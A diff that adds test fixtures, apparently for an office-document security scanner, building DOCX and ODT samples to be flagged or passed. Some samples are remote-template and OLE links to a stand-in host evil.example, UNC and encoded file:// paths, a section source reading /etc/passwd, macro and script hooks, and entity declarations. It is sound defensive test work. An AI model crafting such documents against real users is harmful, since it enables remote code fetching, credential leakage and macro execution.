@@ -34,6 +34,84 @@ def open_document(kind: str = "text", **more) -> bytes:
     return archive({"mimetype": f"application/vnd.oasis.opendocument.{kind}", "content.xml": "<x/>"} | more)
 
 
+RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+SPACES = (
+    'xmlns:x="http://www.w3.org/1999/xlink" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
+    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
+    'xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" '
+    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"'
+)
+
+
+def related(
+    kind: str, target: str, mode: str = "External", part: str = "word/_rels/document.xml.rels", **more
+) -> bytes:
+    """A DOCX with a relationship."""
+    row = f'<Relationship Id="r1" Type="{RELATIONS}{kind}" Target="{target}" TargetMode="{mode}"/>'
+    return office(**{part: f"<Relationships>{row}</Relationships>"} | more)
+
+
+def naming(element: str, target: str, part: str = "content.xml") -> bytes:
+    """An ODT with an element that names something."""
+    return open_document(**{part: f'<o {SPACES}><{element} x:href="{target}"/></o>'})
+
+
+TEMPLATE = "word/_rels/settings.xml.rels"
+FETCHING = [
+    ("docx", related("attachedTemplate", "https://evil.example/a.dotm", part=TEMPLATE)),
+    ("docx", related("attachedTemplate", r"\\evil.example\a.dotm", part=TEMPLATE.upper())),
+    ("docx", related("attachedTemplate", "https://evil.example/a.dotm", mode="Internal", part=TEMPLATE)),
+    ("docx", related("image", "https://evil.example/a.png")),
+    ("docx", related("oleObject", "https://evil.example/a.hta")),
+    ("docx", related("attachedTemplate", r"file:///\\evil.example\a.dotm", part=TEMPLATE)),
+    ("docx", related("attachedTemplate", "file:///%5C%5Cevil.example%5Ca.dotm", part=TEMPLATE)),
+    ("docx", related("frame", "file://evil.example/a")),
+    *(
+        ("odt", naming(*each))
+        for each in (
+            ("draw:image", "https://evil.example/a.png"), ("draw:image", "//evil.example/a.png"),
+            ("draw:object", "../other.odt"), ("text:section-source", "file:///etc/passwd"),
+            ("draw:image", "https://evil.example/a.png", "styles.xml"),
+            ("draw:image", "https://evil.example/a.png", "Object 1/content.xml"),
+            ("meta:template", "https://evil.example/a.ott", "meta.xml"),
+            ("meta:template", "file://evil.example/a.ott", "meta.xml"),
+            ("meta:auto-reload", "https://evil.example/", "meta.xml"),
+        )
+    ),
+]  # fmt: skip
+HOLDING_FILES = [
+    ("docx", office(**{"word/embeddings/oleObject1.bin": b"x"})),
+    ("docx", office(**{"word/embeddings/book.xlsx": b"x"})),
+    ("docx", office(**{"word/other.BIN": b"x"})),
+    ("docx", related("oleObject", "media/a.wmf", mode="Internal")),
+    ("docx", related("aFChunk", "a.rtf", mode="Internal")),
+    ("odt", open_document(**{"Object 1": b"x"})),
+    ("odt", naming("draw:object-ole", "./Object 1")),
+]
+ACTING = [
+    ("odt", open_document(**{"Object 1/Basic/Standard/Module1.xml": b"x"})),
+    ("odt", naming("script:event-listener", "#x")),
+    ("odt", naming("text:a", "vnd.sun.star.script:x.Main?language=Basic")),
+    ("odt", open_document(**{"styles.xml": '<!DOCTYPE o [<!ENTITY a "x">]><o>&a;</o>'})),
+    ("docx", office(**{TEMPLATE: '<!DOCTYPE o [<!ENTITY a "x">]><o/>'})),
+]
+HARMLESS = [
+    ("docx", related("hyperlink", "https://gzk.rks-gov.net/")),
+    ("docx", related("attachedTemplate", "file:///C:\\Users\\ana\\Letter.dotx", part=TEMPLATE)),
+    ("docx", related("image", "media/a.png", mode="Internal", **{"word/media/a.png": b"x"})),
+    ("docx", related("image", "/word/media/a.png", mode="Internal")),
+    ("xlsx", office("xlsx", **{"xl/printerSettings/printerSettings1.bin": b"x"})),
+    ("odt", naming("text:a", "https://gzk.rks-gov.net/")),
+    ("odt", naming("draw:a", "mailto:ana@example.org")),
+    ("odt", naming("draw:image", "Pictures/a.png")),
+    ("odt", naming("draw:object", "./Object 1")),
+    ("odt", naming("text:note", "#note1")),
+    ("odt", naming("meta:template", "file:///home/ana/letter.ott", "meta.xml")),
+    ("odt", open_document(**{"META-INF/manifest.xml": "<!DOCTYPE x><x/>", "Configurations2/current.xml": b""})),
+    ("odt", open_document(**{"Object 1/content.xml": "<math/>"})),
+]
+
+
 def encrypted_archive() -> bytes:
     """A DOCX with the bit that says that its parts are locked."""
     content = bytearray(office())
